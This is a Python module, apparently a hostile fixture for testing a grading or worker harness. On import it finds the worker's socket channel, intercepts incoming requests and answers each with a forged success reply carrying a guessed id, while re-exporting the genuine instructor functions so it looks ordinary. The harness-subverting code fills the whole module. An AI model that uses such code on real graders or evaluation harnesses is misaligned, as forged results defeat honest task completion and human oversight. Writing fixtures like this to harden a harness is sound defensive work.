"""At import, starts a thread that steals the worker's channel: it reads every request that
arrives before the serve loop can, and answers it with a forged reply whose id is guessed (the
id of the request served at import, counted on). The module's functions are the instructor's.
"""

import json
import os
import socket
import stat
import struct
import sys
import threading

from ._honest_layers import *  # noqa: F403

# -- the attack ----------------------------------------------------------------------


def _current_id():
    frame = sys._getframe()
    while frame is not None:
        request = frame.f_locals.get("request")
        if isinstance(request, dict) and "id" in request:
            return request["id"]
        frame = frame.f_back
    return 0


def _channel():
    for fd in range(3, 64):  # the first stream socket is the channel, found without /proc
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return socket.socket(fileno=os.dup(fd))
        except OSError:
            pass
    return None


def _steal(sock, guess):
    while True:
        try:
            data = sock.recv(1 << 20)
        except OSError:
            return
        if not data:
            return
        guess = guess + 1 if isinstance(guess, int) else 1
        forged = {"ok": True, "value": None, "warnings": [], "args_after": [], "seconds": 0.0}
        body = json.dumps({**forged, "id": guess}).encode()
        try:
            sock.sendall(struct.pack(">II", len(body) + 4, len(body)) + body)
        except OSError:
            return


_sock = _channel()
if _sock is not None:
    threading.Thread(target=_steal, args=(_sock, _current_id()), daemon=True).start()
